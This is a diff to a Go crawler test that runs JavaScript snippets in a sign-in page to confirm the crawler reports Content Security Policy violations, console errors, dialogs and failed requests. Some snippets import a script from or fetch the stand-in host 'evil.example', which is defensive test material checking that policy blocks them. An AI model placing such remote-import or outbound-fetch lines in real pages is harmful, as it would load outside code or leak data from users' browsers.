@@ -251,13 +251,16 @@ func TestCrawlSeesTrouble(t *testing.T) {
 		t.Fatalf("a page without trouble: %q", troubles)
 	}
 	for what, script := range map[string]string{
-		"policy violated: script-src": `() => document.body.append(Object.assign(document.createElement('script'), { textContent: 'ran = 1' }))`,
-		"policy violated: style-src":  `() => document.body.setAttribute('style', 'color: red')`,
-		"policy violated: connect":    `() => fetch('https://evil.example/').catch(() => {})`,
-		"console":                     `() => console.error('x')`,
-		"uncaught":                    `() => { setTimeout(() => { throw new Error('x'); }); }`,
-		"a dialog":                    `() => { setTimeout(() => alert('x')); }`,
-		"failed":                      `() => fetch('/gone').catch(() => {})`,
+		"policy violated: script-src": `() => import('https://evil.example/ran.js').catch(() => {})`,
+		"policy violated: require-trusted-types-for": `() => {
+			try { document.createElement('script').textContent = 'ran = 1'; } catch {}
+		}`,
+		"policy violated: style-src": `() => document.body.setAttribute('style', 'color: red')`,
+		"policy violated: connect":   `() => fetch('https://evil.example/').catch(() => {})`,
+		"console":                    `() => console.error('x')`,
+		"uncaught":                   `() => { setTimeout(() => { throw new Error('x'); }); }`,
+		"a dialog":                   `() => { setTimeout(() => alert('x')); }`,
+		"failed":                     `() => fetch('/gone').catch(() => {})`,
 	} {
 		v.goTo("/signin")
 		w.take() // what the script before it made
